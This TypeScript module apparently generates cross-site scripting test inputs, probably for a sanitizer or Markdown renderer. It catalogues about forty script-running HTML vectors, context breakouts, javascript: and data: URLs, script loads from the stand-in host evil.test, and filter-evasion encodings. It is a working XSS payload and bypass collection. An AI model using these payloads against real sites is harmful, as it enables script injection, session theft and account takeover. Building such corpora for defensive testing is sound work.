/** The place of a raw text in a page: between elements, in an attribute, or in an element whose content is text. */
export type RawContext =
	| 'html'
	| 'double'
	| 'single'
	| 'unquoted'
	| 'textarea'
	| 'title'
	| 'style'
	| 'comment'
	| 'script'
	| 'url'

type Code = (call: string) => string

/** Elements that run code: when they are parsed, loaded, shown, focused, pointed at or clicked. */
export const VECTORS: Record<string, Code> = {
	script: (call) => `<script>${call}</script>`,
	'script data': (call) => `<script src="data:text/javascript,${call}"></script>`,
	'script module': (call) => `<script type=module>${call}</script>`,
	'script elsewhere': (call) => `<script src=//evil.test/${call}></script>`,
	'svg script': (call) => `<svg><script>${call}</script></svg>`,
	'img error': (call) => `<img src=x onerror=${call}>`,
	'img load': (call) => `<img src="data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA=" onload=${call}>`,
	'img elsewhere': (call) => `<img src="//evil.test/${call}">`,
	'svg load': (call) => `<svg onload=${call}>`,
	'svg animate': (call) => `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
	'svg use': (call) => `<svg><a xlink:href="javascript:${call}"><text y=20>x</text></a></svg>`,
	'body load': (call) => `<body onload=${call}>`,
	'page show': (call) => `<body onpageshow=${call}>`,
	details: (call) => `<details open ontoggle=${call}>`,
	'video source': (call) => `<video><source onerror=${call}></video>`,
	audio: (call) => `<audio src=x onerror=${call}>`,
	'input focus': (call) => `<input autofocus onfocus=${call}>`,
	'select focus': (call) => `<select autofocus onfocus=${call}>`,
	'iframe text': (call) => `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
	'iframe address': (call) => `<iframe src="javascript:parent.${call}"></iframe>`,
	'iframe load': (call) => `<iframe onload=${call}></iframe>`,
	object: (call) => `<object data=x onerror=${call}></object>`,
	embed: (call) => `<embed src="javascript:${call}">`,
	animation: (call) =>
		`<style>@keyframes k{to{top:1px}}</style><b style="animation:k 1ms" onanimationstart=${call}>`,
	marquee: (call) => `<marquee onstart=${call}>`,
	pointer: (call) => `<b onmouseover=${call}>x</b>`,
	tabindex: (call) => `<b tabindex=0 onfocus=${call}>x</b>`,
	link: (call) => `<a href="javascript:${call}">x</a>`,
	button: (call) => `<form><button formaction="javascript:${call}">x</button></form>`,
	form: (call) => `<form action="javascript:${call}"><button>x</button></form>`,
	stylesheet: (call) => `<link rel=stylesheet href=//evil.test/${call}>`,
	refresh: (call) => `<meta http-equiv=refresh content="0;url=data:text/html,${call}">`,
	base: (call) => `<base href=//evil.test/${call}/><script src=x></script>`,
	'noscript round': (call) => `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
	'style round': (call) => `<svg></p><style><a id="</style><img src=x onerror=${call}>">`,
	'math round': (call) =>
		`<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=${call}>">`,
	'form round': (call) => `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${call}>`,
	'template shadow': (call) =>
		`<div><template shadowrootmode=open><img src=x onerror=${call}></template></div>`,
	cdata: (call) => `<svg><![CDATA[><img src=x onerror=${call}>]]>`,
	instruction: (call) =>
		`<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">${call}</x:script>`,
}

type Frame = { context: RawContext; frame: (inner: string) => string; code?: true }

/** Places of a vector, and the text that ends what a page writes before it; Markdown around it. */
export const FRAMES: Record<string, Frame> = {
	plain: { context: 'html', frame: (inner) => inner },
	'out of double quotes': { context: 'double', frame: (inner) => `">${inner}` },
	'out of single quotes': { context: 'single', frame: (inner) => `'>${inner}` },
	'out of no quotes': { context: 'unquoted', frame: (inner) => `x>${inner}` },
	'out of a text area': { context: 'textarea', frame: (inner) => `</textarea>${inner}` },
	'out of a title': { context: 'title', frame: (inner) => `</title>${inner}` },
	'out of a style': { context: 'style', frame: (inner) => `</style>${inner}` },
	'out of a comment': { context: 'comment', frame: (inner) => `-->${inner}` },
	'out of a comment by an exclamation mark': { context: 'comment', frame: (inner) => `--!>${inner}` },
	'out of a script': { context: 'script', frame: (inner) => `</script>${inner}` },
	'out of CDATA': { context: 'html', frame: (inner) => `]]>${inner}` },
	'out of a table': { context: 'html', frame: (inner) => `</td></tr></table>${inner}` },
	'as emphasis': { context: 'html', frame: (inner) => `**${inner}**` },
	'as code': { context: 'html', frame: (inner) => `\`${inner}\`` },
	'as a code block': { context: 'html', frame: (inner) => `\`\`\`html\n${inner}\n\`\`\`` },
	'as a quotation': { context: 'html', frame: (inner) => `> ${inner}` },
	'as a list item': { context: 'html', frame: (inner) => `- ${inner}` },
	'as a heading': { context: 'html', frame: (inner) => `# ${inner}` },
	'as the text of a link': { context: 'html', frame: (inner) => `[${inner}](https://a.test/)` },
	'as the title of a link': { context: 'html', frame: (inner) => `[x](https://a.test/ "${inner}")` },
	'in a web address': { context: 'html', frame: (inner) => `https://a.test/?q=${inner}` },
	'in the address of a link': { context: 'html', frame: (inner) => `[x](https://a.test/${inner})` },
	'as a table cell': { context: 'html', frame: (inner) => `| a |\n|---|\n| ${inner} |` },
	'new attribute': {
		context: 'double',
		code: true,
		frame: (call) => `" onfocus=${call} autofocus tabindex=0 x="`,
	},
	'new attribute in single quotes': {
		context: 'single',
		code: true,
		frame: (call) => `' onfocus=${call} autofocus tabindex=0 x='`,
	},
	'new attribute without quotes': {
		context: 'unquoted',
		code: true,
		frame: (call) => `x onfocus=${call} autofocus tabindex=0 x=`,
	},
	'out of a string of code': { context: 'script', code: true, frame: (call) => `";${call};//` },
	'through a string of code': { context: 'script', code: true, frame: (call) => `"-${call}-"` },
	'out of a line of code': { context: 'script', code: true, frame: (call) => `\\";${call};//` },
	'in a template of code': { context: 'script', code: true, frame: (call) => `\${${call}}` },
	'in a template of another system': {
		context: 'html',
		code: true,
		frame: (call) => `{{${call}}}<%=${call}%>`,
	},
}

/** Addresses that run code when a link or a form leads there. */
export const URLS: Record<string, Code> = {
	plain: (call) => `javascript:${call}//`,
	'mixed case': (call) => `jAvAsCrIpT:${call}//`,
	tab: (call) => `java\tscript:${call}//`,
	'line end': (call) => `java\nscript:${call}//`,
	'control character': (call) => `\u0001javascript:${call}//`,
	'white space': (call) => ` \u00a0javascript:${call}//`,
	'no-width space': (call) => `java\u200bscript:${call}//`,
	entity: (call) => `javascript&colon;${call}//`,
	'entity of a letter': (call) => `&#106;avascript:${call}//`,
	comment: (call) => `javascript://a.test/%0a${call}//`,
	'data page': (call) => `data:text/html,<script>${call}</script>`,
	'data in base64': (call) => `data:text/html;base64,${btoa(`<script>${call}</script>`)}`,
	vbscript: (call) => `vbscript:${call}`,
	'view source': (call) => `view-source:javascript:${call}`,
	'other host': (call) => `//evil.test/${call}`,
	'user info': (call) => `https://a.test:80@evil.test/${call}`,
	'quotes in it': (call) => `https://a.test/"onfocus="${call}"autofocus="`,
	'brackets in it': (call) => `https://a.test/)<img src=x onerror=${call}>`,
}

/** Places of such an address. */
export const URL_FRAMES: Record<string, Frame> = {
	plain: { context: 'url', frame: (url) => url },
	'of a link': { context: 'html', frame: (url) => `[x](${url})` },
	'of a link in brackets': { context: 'html', frame: (url) => `[x](<${url}>)` },
	'of a picture': { context: 'html', frame: (url) => `![x](${url})` },
	'by itself in brackets': { context: 'html', frame: (url) => `<${url}>` },
	'as a reference': { context: 'html', frame: (url) => `[x][y]\n\n[y]: ${url}` },
	'of an element': { context: 'html', frame: (url) => `<a href="${url}">x</a>` },
}

const entities = (text: string, written: (code: number) => string): string =>
	text.replace(/[<>"'&()]/g, (character) => written(character.charCodeAt(0)))

const FULL_WIDTH = 0xfee0

/** Ways to write the same text, which a filter or a decoder takes for another one. */
export const ENCODINGS: Record<string, (text: string) => string> = {
	none: (text) => text,
	'upper case': (text) => text.replace(/<\/?[a-z]+|\bon[a-z]+(?==)/g, (name) => name.toUpperCase()),
	'mixed case': (text) =>
		text.replace(/<\/?[a-z]+|\bon[a-z]+(?==)/g, (name) =>
			name.replace(/[a-z]/g, (letter, at) => (at % 2 ? letter.toUpperCase() : letter)),
		),
	'slashes for spaces': (text) => text.replace(/(<[a-z]+) /gi, '$1/'),
	'line ends for spaces': (text) => text.replace(/(<[a-z]+) /gi, '$1\n'),
	'tabs for spaces': (text) => text.replace(/(<[a-z]+) /gi, '$1\t'),
	'form feeds for spaces': (text) => text.replace(/(<[a-z]+) /gi, '$1\f'),
	'spaces around equals signs': (text) => text.replace(/(\bon[a-z]+)=/gi, '$1 = '),
	'quoted attributes': (text) => text.replace(/(\bon[a-z]+)=([^\s>"']+)/gi, "$1='$2'"),
	'nested tags': (text) => text.replace(/<([a-z])/gi, '<<$1'),
	unclosed: (text) => text.replace(/>$/, ''),
	'removed twice': (text) => text.replace(/<(script|img|svg)/gi, '<$1<$1'),
	'decimal entities': (text) => entities(text, (code) => `&#${code};`),
	'hexadecimal entities': (text) => entities(text, (code) => `&#x${code.toString(16)};`),
	'entities with zeros': (text) => entities(text, (code) => `&#0000${code}`),
	'entities twice': (text) => entities(text, (code) => `&amp;#${code};`),
	'percent signs': (text) => entities(text, (code) => `%${code.toString(16)}`),
	'percent signs twice': (text) => entities(text, (code) => `%25${code.toString(16)}`),
	'JavaScript escapes': (text) => entities(text, (code) => `\\u00${code.toString(16)}`),
	'UTF-7': (text) => text.replaceAll('<', '+ADw-').replaceAll('>', '+AD4-'),
	'NUL in names': (text) => text.replace(/<([a-z])/gi, '<\0$1'),
	'NUL after names': (text) => text.replace(/(<[a-z]+) /gi, '$1\0 '),
	'full width': (text) =>
		text.replace(/[<>"]/g, (character) => String.fromCharCode(character.charCodeAt(0) + FULL_WIDTH)),
	'similar letters': (text) => text.replaceAll('<', '\u2039').replaceAll('script', '\u017fcript'),
	'no-width characters': (text) => text.replace(/<([a-z])/gi, '<\u200b$1'),
	'right to left': (text) => `\u202e${text}\u202c`,
	isolates: (text) => `\u2067${text}\u2069`,
	'byte order mark': (text) => `\ufeff${text}`,
	'lone surrogate': (text) => `\ud800${text}`,
	'combining marks': (text) => text.replaceAll('>', '>\u0338'),
	'line separator': (text) => `\u2028${text}`,
	'very long': (text) => `${'a'.repeat(3_000)} ${text}`,
	'many marks before': (text) => `${'<'.repeat(200)} ${text}`,
	'after an open comment': (text) => `<!--x-->${text}`,
}
